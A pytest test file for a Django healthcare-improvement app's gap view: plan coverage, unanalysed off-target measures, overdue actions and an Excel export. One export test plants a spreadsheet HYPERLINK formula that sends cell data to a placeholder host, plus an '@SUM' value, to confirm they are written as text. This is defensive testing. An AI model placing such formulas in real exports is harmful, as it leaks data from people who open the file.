"""The gap view: units lacking a plan, an analysis of an off-target measure, or with overdue actions."""

import re
from datetime import date, timedelta

import pytest
from django.urls import reverse

from lagesbild.calc.periods import Period
from lagesbild.core.actor import Actor
from lagesbild.improvement import measured, selectors, services
from lagesbild.org.models import OrgUnit

pytestmark = pytest.mark.django_db
Y2025 = Period.parse("2025")
TODAY = date(2025, 9, 1)


@pytest.fixture
def situation(users, org, measure, falls):
    """Region plan 2025–2027; F1 inherits it, F2 has none. KIR and MED miss targets; MED analysed
    the riskbedömning measure; KIR has an overdue action on another analysis."""
    s = users.strategist
    plan = services.create_plan(org.region, 2025, 2027, "Regionens plan", actor=Actor(s))
    services.inherit_plan(org.f1, plan, actor=Actor(s))
    services.record_analysis(measure, org.med, Y2025, "Medicin har analyserat.", actor=Actor(s))
    old = services.record_analysis(falls, org.kir, Period.parse("2024"), "Förra årets fall.", actor=Actor(s))
    services.add_action(old, "Fallrond", "Chef", TODAY - timedelta(days=10), actor=Actor(s))
    services.add_action(old, "Klar åtgärd", "Chef", TODAY - timedelta(days=10), status="klar", actor=Actor(s))
    off = {"08-F1-KIR": [measure, falls], "08-F1-MED": [measure]}
    return lambda unit, period: off.get(unit.code, []) if period == Y2025 else []


def by_code(rows):
    return {r.unit.code: r for r in rows}


def test_gap_flags(users, org, measure, falls, situation):
    rows = selectors.gaps(users.strategist, org.region, 2025, Y2025, off_target=situation, today=TODAY)
    assert [r.unit.code for r in rows] == ["08", "08-F1", "08-F1-KIR", "08-F1-MED", "08-F2", "08-F2-ALL"]
    r = by_code(rows)
    # Plans: the region has its own; F1 has its own inheriting plan and covers its verksamheter;
    # F2 and below lack one.
    assert [(c, r[c].lacks_plan) for c in r] == [
        ("08", False), ("08-F1", False), ("08-F1-KIR", False), ("08-F1-MED", False), ("08-F2", True),
        ("08-F2-ALL", True)]
    assert r["08"].plan_note == "Regionens egen plan."
    assert r["08-F1-KIR"].plan.org_unit == org.f1
    assert r["08-F2"].plan_note == "Saknar egen handlingsplan för 2025 som ärver regionens plan."
    assert r["08-F2-ALL"].plan_note == "Tandvårdsförvaltningen saknar handlingsplan för 2025."
    # Analyses: both of KIR's off-target measures lack one; MED analysed its only one.
    assert r["08-F1-KIR"].missing_analysis == [measure, falls]
    assert r["08-F1-MED"].off_target == [measure] and r["08-F1-MED"].missing_analysis == []
    # Overdue: only KIR's open, past-due action counts, on KIR itself.
    assert [(c, r[c].overdue) for c in r] == [(c, 1 if c == "08-F1-KIR" else 0) for c in r]
    assert [c for c in r if r[c].has_gap] == ["08-F1-KIR", "08-F2", "08-F2-ALL"]


def test_a_later_year_without_a_region_plan_is_a_gap_everywhere(users, org, situation):
    rows = selectors.gaps(users.strategist, org.region, 2028, Period.parse("2028"), off_target=situation, today=TODAY)
    assert len(rows) == 6
    assert all(r.lacks_plan and r.plan_note == "Regionen saknar handlingsplan för 2028." for r in rows)
    assert all(r.missing_analysis == [] for r in rows)  # nothing off target in 2028


def test_units_on_request_and_only_active_ones(users, org, situation):
    rows = selectors.gaps(users.strategist, org.region, 2025, Y2025, off_target=situation, include_enheter=True,
                          today=TODAY)
    assert "08-F1-KIR-AVD1" in by_code(rows) and not by_code(rows)["08-F1-KIR-AVD1"].lacks_plan
    OrgUnit.objects.filter(code="08-F2-ALL").update(valid_to=date(2024, 12, 31))
    rows = selectors.gaps(users.strategist, org.region, 2025, Y2025, off_target=situation, today=TODAY)
    assert "08-F2-ALL" not in by_code(rows)


def test_gaps_are_scoped(users, org, situation):
    rows = selectors.gaps(users.kir_manager, org.region, 2025, Y2025, off_target=situation, today=TODAY)
    assert [r.unit.code for r in rows] == ["08-F1-KIR"]
    assert rows[0].plan.org_unit == org.f1  # the division's plan still covers it
    assert [r.name for r in selectors.gap_regions(users.kir_manager)] == ["Region Kalmar län"]


def test_default_off_target_uses_unit_statuses(users, org, measure, falls, fake_measurements, situation):
    from types import SimpleNamespace

    fake_measurements.statuses[("08-F1-KIR", "2025")] = [
        SimpleNamespace(measure=measure, status="ej_uppnatt"),
        SimpleNamespace(measure=falls, status="nara"),
        SimpleNamespace(measure=falls, status="saknar_data"),
    ]
    r = by_code(selectors.gaps(users.strategist, org.region, 2025, Y2025, today=TODAY))
    assert r["08-F1-KIR"].off_target == [measure] and r["08-F1-KIR"].missing_analysis == [measure]
    assert r["08-F2"].off_target == []


def text(response) -> str:
    return re.sub(r"[ \t\r\n]+", " ", response.content.decode())


def test_gap_page(client, users, org, measure, situation, monkeypatch):
    monkeypatch.setattr(measured, "default_off_target", lambda: situation)
    client.force_login(users.strategist)
    r = client.get(reverse("improvement:gaps"), {"enhet": "08", "ar": "2025", "period": "2025"})
    assert r.status_code == 200
    page = text(r)
    row = re.search(r'<tr id="enhet-08-F2" class="gap">(.*?)</tr>', page).group(1)
    assert "Saknar plan" in row
    kir = re.search(r'<tr id="enhet-08-F1-KIR" class="gap">(.*?)</tr>', page).group(1)
    assert f'href="/forbattring/{measure.code}/08-F1-KIR/2025/"' in kir and "2 saknar analys" in kir
    assert 'href="/forbattring/forsenade/?enhet=08-F1-KIR&amp;endast=1"' in kir
    assert '<tr id="enhet-08-F1-MED" class="ok">' in page
    assert '<tr id="enhet-08" class="ok">' in page
    assert "3 av 6 enheter har minst en lucka" in page
    # Another region is not offered and cannot be asked for.
    assert "Region Stockholm" not in page
    assert client.get(reverse("improvement:gaps"), {"enhet": "01", "ar": "2025"}).status_code == 403
    assert client.get(reverse("improvement:gaps"), {"ar": "tjugo"}).status_code == 422
    # Without parameters: the user's region, this year.
    assert client.get(reverse("improvement:gaps")).status_code == 200


def test_the_gap_view_opens_on_the_latest_year_with_data_and_counts_every_level(client, users, org, measure, falls):
    """Item 11: not the calendar year (no data: a green 'no gaps'), and the region's own row and
    the enheter's overdue actions are counted."""
    from lagesbild.measurements.models import Observation

    for month in (3, 11):
        Observation.objects.create(measure=measure, org_unit=org.avd, period_start=date(2024, month, 1),
                                   granularity="month", numerator=3, denominator=4)
    s = Actor(users.strategist)
    regional = services.record_analysis(falls, org.region, Period.parse("2024"), "Regionens analys.", actor=s)
    for title in ("Regional rutin", "Regional utbildning"):
        services.add_action(regional, title, "Chefläkare", date(2024, 6, 30), actor=s)
    ward = services.record_analysis(falls, org.avd, Period.parse("2024"), "Avdelningens analys.", actor=s)
    services.add_action(ward, "Avdelningens rond", "Chef", date(2024, 6, 30), actor=s)

    client.force_login(users.strategist)
    r = client.get(reverse("improvement:gaps"))
    assert r.status_code == 200
    page = text(r)
    assert "Luckor i förbättringsarbetet – Region Kalmar län 2024</h1>" in page
    assert 'name="period" value="2024"' in page and 'name="ar" value="2024"' in page
    region_row = re.search(r'<tr id="enhet-08" class="gap">(.*?)</tr>', page).group(1)
    assert "Regionen saknar handlingsplan för 2024." in region_row
    assert 'href="/forbattring/forsenade/?enhet=08&amp;endast=1"><span class="badge overdue">2</span>' in region_row
    # Every level: the region's two and the ward's one (enheter are not listed by default).
    assert "3 försenade åtgärder</a> i regionen, alla nivåer." in page
    # An explicit year or period still wins.
    assert "Region Kalmar län 2025</h1>" in text(client.get(reverse("improvement:gaps"), {"ar": "2025"}))
    assert "Region Kalmar län 2023</h1>" in text(client.get(reverse("improvement:gaps"), {"period": "2023-Q2"}))


def test_without_any_data_the_gap_view_opens_on_this_year(client, users, org):
    client.force_login(users.strategist)
    page = text(client.get(reverse("improvement:gaps")))
    assert f"Region Kalmar län {date.today().year}</h1>" in page


def test_gap_export_reads_the_page_rows_and_writes_user_text_as_text(client, users, org, measure, situation,
                                                                     monkeypatch):
    import io

    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://example.org/?m="&A1,"Öppna")'
    OrgUnit.objects.filter(code="08-F2").update(name=formula)
    measure.title = "@SUM(1+1)"
    measure.save()
    monkeypatch.setattr(measured, "default_off_target", lambda: situation)
    client.force_login(users.strategist)
    params = {"enhet": "08", "ar": "2025", "period": "2025"}
    page = text(client.get(reverse("improvement:gaps"), params))
    r = client.get(reverse("improvement:gaps"), {**params, "format": "xlsx"})
    assert r.status_code == 200
    rows = list(load_workbook(io.BytesIO(r.content)).active.iter_rows())
    header = next(i for i, row in enumerate(rows) if row[0].value == "Enhet")
    assert [c.value for c in rows[header]] == ["Enhet", "Typ", "Handlingsplan saknas", "Plan",
                                               "Mått ej uppnått utan analys", "Försenade åtgärder"]
    body = {row[0].value: row for row in rows[header + 1:]}
    assert list(body) == ["Region Kalmar län", "Hälso- och sjukvårdsförvaltningen", "Kirurgkliniken",
                          "Medicinkliniken", formula, "Allmäntandvården"]
    assert (body[formula][0].data_type, body[formula][2].value) == ("s", "ja")
    kir = body["Kirurgkliniken"]
    assert (kir[4].value, kir[4].data_type, kir[5].value) == ("@SUM(1+1); Fallskador per 1 000 vårddagar", "s", 1)
    assert "3 av 6 enheter har minst en lucka" in page and "@SUM(1+1)" in page


def test_a_national_user_opens_on_a_region_with_data(client, national_user, org, measure):
    """Item 11 for a national user: not the first region in the list (no data: a green 'no gaps'),
    but the first region that has data, on its latest year with data."""
    from lagesbild.measurements.models import Observation

    Observation.objects.create(measure=measure, org_unit=org.avd, period_start=date(2024, 3, 1),
                               granularity="month", numerator=3, denominator=4)
    client.force_login(national_user)
    page = text(client.get(reverse("improvement:gaps")))
    assert "Luckor i förbättringsarbetet – Region Kalmar län 2024</h1>" in page
